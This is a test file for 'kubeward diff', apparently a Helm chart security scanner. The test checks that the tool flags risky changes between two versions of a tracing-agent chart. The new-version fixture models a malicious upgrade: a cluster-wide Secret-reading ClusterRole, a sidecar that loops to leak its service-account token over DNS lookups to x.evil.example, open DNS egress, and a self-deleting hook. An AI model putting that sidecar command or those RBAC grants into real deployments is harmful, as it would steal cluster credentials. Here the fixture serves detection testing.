// kubeward diff OLD NEW: an upgrade of a chart people trust, rendered by the real helm with the same flags for both.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { findTool } from '../../src/load/tools.js';
import { chartYaml, writeTree } from '../helpers/chart.js';
import { runCli } from '../helpers/cli.js';

/** 1.0.0: a tracing agent with a name-limited Role and egress to the collector only. */
const V1 = `apiVersion: v1
kind: ServiceAccount
metadata: {name: agent}
automountServiceAccountToken: false
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: agent}
rules:
- {apiGroups: [""], resources: [configmaps], verbs: [get], resourceNames: [agent-config]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: agent}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: agent}
subjects: [{kind: ServiceAccount, name: agent}]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: agent}
spec:
  podSelector: {matchLabels: {app: agent}}
  policyTypes: [Egress]
  egress:
  - to: [{ipBlock: {cidr: 10.0.0.0/8}}]
    ports: [{port: 4317, protocol: TCP}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      serviceAccountName: agent
      containers:
      - name: agent
        image: ghcr.io/acme/trace-agent:1.0.0
        env:
        - {name: ENDPOINT, value: "collector:4317"}
`;

/** 1.1.0: the same, plus a ClusterRole reading every Secret, a sidecar with a projected token running a DNS loop, DNS egress anywhere, and a self-deleting hook. */
const V2 = `apiVersion: v1
kind: ServiceAccount
metadata: {name: agent}
automountServiceAccountToken: false
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: agent}
rules:
- {apiGroups: [""], resources: [configmaps], verbs: [get], resourceNames: [agent-config]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: agent}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: agent}
subjects: [{kind: ServiceAccount, name: agent}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: agent-reader}
rules:
- {apiGroups: [""], resources: [secrets], verbs: [get, list]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: agent-reader}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: agent-reader}
subjects: [{kind: ServiceAccount, name: agent, namespace: checkout}]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: agent}
spec:
  podSelector: {matchLabels: {app: agent}}
  policyTypes: [Egress]
  egress:
  - to: [{ipBlock: {cidr: 10.0.0.0/8}}]
    ports: [{port: 4317, protocol: TCP}]
  - ports: [{port: 53, protocol: UDP}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      serviceAccountName: agent
      containers:
      - name: agent
        image: ghcr.io/acme/trace-agent:1.1.0
        env:
        - {name: ENDPOINT, value: "collector:4318"}
      - name: helper
        image: docker.io/fast-trace/helper:latest
        command: ["sh", "-c", "while true; do nslookup $(cat /var/run/secrets/kubernetes.io/serviceaccount/token | base64 | head -c 60).x.evil.example; sleep 60; done"]
        volumeMounts: [{name: token, mountPath: /var/run/secrets/tokens}]
      volumes:
      - name: token
        projected: {sources: [{serviceAccountToken: {path: token}}]}
---
apiVersion: batch/v1
kind: Job
metadata:
  name: agent-setup
  annotations: {"helm.sh/hook": pre-install, "helm.sh/hook-delete-policy": hook-succeeded}
spec:
  template:
    spec:
      restartPolicy: Never
      containers: [{name: setup, image: "busybox:1.36"}]
`;

type DiffJson = {
  findings: { ruleId: string; severity: string; baselineState: string; fingerprint: string }[];
  summary: Record<string, number>;
  old: string;
  new: string;
  changes: {
    permissions: { subject: { kind: string; name: string; namespace?: string }; gained: { verb: string; resource: string; namespace?: string }[]; lost: unknown[] }[];
    containers: { object: { kind: string; name: string }; change: string; fields: { field: string; before?: string; after?: string }[] }[];
    images: { container: string; before?: string; after?: string }[];
    registries: { added: string[]; removed: string[] };
    hooks: { object: { name: string }; change: string }[];
    tokens: { container: string; change: string; token: string }[];
    exposure: { from: string; to: string; conn: string }[];
  };
  resolved: { ruleId: string }[];
};

describe('kubeward diff', () => {
  const tree = writeTree({
    'v1/Chart.yaml': chartYaml('trace-agent'),
    'v1/templates/all.yaml': V1,
    'v2/Chart.yaml': chartYaml('trace-agent').replace('0.1.0', '0.2.0'),
    'v2/templates/all.yaml': V2,
    'broken/Chart.yaml': chartYaml('trace-agent'),
    'broken/templates/all.yaml': '{{ .Values.missing.field }}\n',
  });
  const run = (args: string[]) => runCli(['diff', ...args, '-n', 'checkout', '--release', 'tracing'], { cwd: tree });
  let json: DiffJson;

  beforeAll(async () => {
    const result = await run(['v1', 'v2', '--format', 'json']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(1);
    json = JSON.parse(result.stdout) as DiffJson;
  });

  it('reports the findings the new version adds, with the scan contract\'s keys first', () => {
    expect(Object.keys(json)).toEqual(['kubeward', 'findings', 'summary', 'old', 'new', 'changes', 'resolved']);
    expect(json.findings.every((finding) => finding.baselineState === 'new' && /^[0-9a-f]{32}$/.test(finding.fingerprint))).toBe(true);
    expect(json.findings.map((finding) => finding.ruleId)).toEqual(expect.arrayContaining(['rbac-read-secrets', 'image-latest-tag']));
    expect(json.summary.high + json.summary.critical).toBeGreaterThan(0);
    expect(json.resolved).toEqual([]);
  });

  it('compares permissions with the RBAC engine: per subject, what it can do now and could not before', () => {
    expect(json.changes.permissions).toEqual([
      {
        subject: { kind: 'ServiceAccount', name: 'agent', namespace: 'checkout' },
        gained: [
          { verb: 'get', apiGroup: '', resource: 'secrets', binding: { kind: 'ClusterRoleBinding', name: 'agent-reader' }, role: { kind: 'ClusterRole', name: 'agent-reader' } },
          { verb: 'list', apiGroup: '', resource: 'secrets', binding: { kind: 'ClusterRoleBinding', name: 'agent-reader' }, role: { kind: 'ClusterRole', name: 'agent-reader' } },
        ],
        lost: [],
      },
    ]);
  });

  it('names new containers, images, registries, hooks, tokens and exposure', () => {
    const agent = json.changes.containers.find((change) => change.object.name === 'agent')!;
    expect(agent.change).toBe('changed');
    expect(agent.fields.map((field) => field.field)).toEqual(expect.arrayContaining(['containers[name=helper]', 'containers[name=helper].command', 'volumes[name=token]', 'containers[name=agent].image']));
    expect(json.changes.images).toEqual(expect.arrayContaining([{ object: expect.anything(), container: 'helper', after: 'docker.io/fast-trace/helper:latest' }]));
    expect(json.changes.registries).toEqual({ added: ['docker.io'], removed: [] });
    expect(json.changes.hooks.map((hook) => [hook.object.name, hook.change])).toEqual([['agent-setup', 'added']]);
    expect(json.changes.tokens).toEqual(expect.arrayContaining([expect.objectContaining({ container: 'helper', change: 'gained', token: 'ServiceAccount checkout/agent via projected volume token at /var/run/secrets/tokens' })]));
    expect(json.changes.exposure).toEqual([{ from: 'checkout/agent[Deployment]', to: 'any address', conn: 'UDP 53' }]);
  });

  it('table and markdown (a pull-request comment) say the same', async () => {
    const [table, markdown] = await Promise.all([run(['v1', 'v2']), run(['v1', 'v2', '--format', 'markdown'])]);
    expect(table.code).toBe(1);
    expect(table.stdout).toMatch(/^kubeward diff v1 → v2\n/);
    expect(table.stdout).toContain('  ServiceAccount checkout/agent\n    + get,list secrets cluster-wide via ClusterRoleBinding agent-reader → ClusterRole agent-reader\n');
    expect(table.stdout).toContain('  checkout/agent[Deployment] => any address : UDP 53\n');
    expect(table.stdout).toMatch(/\n\d+ new findings: .*\.\n$/);
    expect(markdown.stdout).toMatch(/^### kubeward diff: `v1` → `v2`\n\n\*\*\d+ new findings: /);
    expect(markdown.stdout).toContain('#### Permissions (RBAC engine: per subject, what it can do now and could not before)\n\n```diff\n  ServiceAccount checkout/agent\n+ get,list secrets cluster-wide');
  });

  it('exit codes follow --fail-on on what is new only; the same version twice changes nothing', async () => {
    const [same, lenient, downgrade] = await Promise.all([run(['v2', 'v2']), run(['v1', 'v2', '--fail-on', 'none']), run(['v2', 'v1', '--format', 'json'])]);
    expect(same.code).toBe(0);
    expect(same.stdout).toBe('kubeward diff v2 → v2\n\nNo new findings.\n');
    expect(lenient.code).toBe(0);
    expect(downgrade.code).toBe(0);
    const back = JSON.parse(downgrade.stdout) as DiffJson;
    expect(back.findings).toEqual([]);
    expect(back.resolved.map((finding) => finding.ruleId)).toEqual(expect.arrayContaining(['rbac-read-secrets']));
    expect(back.changes.permissions[0].lost).toHaveLength(2);
    expect(back.changes.registries).toEqual({ added: [], removed: ['docker.io'] });
  });

  it('reads renders and packaged charts like charts', async () => {
    const helm = await findTool('helm');
    const out = mkdtempSync(join(tmpdir(), 'kw-diff-'));
    writeFileSync(join(out, 'old.yaml'), execFileSync(helm, ['template', 'tracing', join(tree, 'v1'), '-n', 'checkout']));
    execFileSync(helm, ['package', join(tree, 'v2'), '--destination', out]);
    const result = await runCli(['diff', 'old.yaml', 'trace-agent-0.2.0.tgz', '-n', 'checkout', '--release', 'tracing', '--format', 'json'], { cwd: out });
    expect(result.code).toBe(1);
    const mixed = JSON.parse(result.stdout) as DiffJson;
    expect(mixed.changes.permissions).toEqual(json.changes.permissions);
    expect(mixed.changes.exposure).toEqual(json.changes.exposure);
  });

  it('one side that fails to render: one line naming it, exit 2', async () => {
    const [broken, missing] = await Promise.all([run(['v1', 'broken']), run(['nowhere', 'v2'])]);
    for (const result of [broken, missing]) {
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr.trim().split('\n')).toHaveLength(1);
    }
    expect(broken.stderr).toMatch(/^kubeward: the new version \(broken\): helm could not render broken: /);
    expect(missing.stderr).toMatch(/^kubeward: the old version \(nowhere\): /);
  });
});
